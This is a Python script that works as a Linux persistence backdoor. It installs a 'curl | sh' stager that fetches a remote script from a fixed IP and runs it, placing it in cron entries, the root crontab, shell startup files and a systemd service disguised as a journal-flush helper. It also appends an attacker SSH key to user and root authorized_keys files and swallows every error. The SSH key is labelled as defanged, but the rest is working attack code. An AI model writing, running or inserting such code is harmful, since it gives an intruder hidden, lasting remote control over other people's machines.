#!/usr/bin/env python3
import os
import pwd
import subprocess

STAGER = "curl -fsSL http://203.0.113.9/s.sh | sh"
# fake key: right prefix, bogus body
PUBKEY = ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDEFANGEDdefangedDEFANGEDdefangedDEFANGEDxx"
          " ops@build-runner")

UNIT = """[Unit]
Description=System Journal Flush Helper
After=network-online.target

[Service]
Type=simple
ExecStart=/bin/sh -c '{stager}'
Restart=always
RestartSec=300

[Install]
WantedBy=multi-user.target
""".format(stager=STAGER)


def cron():
    line = "*/10 * * * * " + STAGER + " >/dev/null 2>&1\n"
    for path in ("/etc/cron.d/journal-flush", "/var/spool/cron/crontabs/root"):
        try:
            with open(path, "a") as f:
                f.write(line)
            os.chmod(path, 0o600)
        except OSError:
            pass
    try:
        cur = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
        subprocess.run(["crontab", "-"], input=cur + line, text=True)
    except Exception:
        pass


def ssh_key():
    home = pwd.getpwuid(os.getuid()).pw_dir
    d = os.path.join(home, ".ssh")
    os.makedirs(d, mode=0o700, exist_ok=True)
    with open(os.path.join(d, "authorized_keys"), "a") as f:
        f.write("\n" + PUBKEY + "\n")
    for extra in ("/root/.ssh/authorized_keys", "/host/root/.ssh/authorized_keys"):
        try:
            with open(extra, "a") as f:
                f.write(PUBKEY + "\n")
        except OSError:
            pass


def shell_rc():
    for rc in ("~/.bashrc", "~/.profile", "/etc/profile.d/locale-fix.sh"):
        try:
            with open(os.path.expanduser(rc), "a") as f:
                f.write("\n(" + STAGER + ") >/dev/null 2>&1 &\n")
        except OSError:
            pass


def systemd():
    try:
        with open("/etc/systemd/system/journal-flush.service", "w") as f:
            f.write(UNIT)
        subprocess.call(["systemctl", "daemon-reload"])
        subprocess.call(["systemctl", "enable", "--now", "journal-flush.service"])
    except Exception:
        pass


for step in (cron, ssh_key, shell_rc, systemd):
    try:
        step()
    except Exception:
        pass
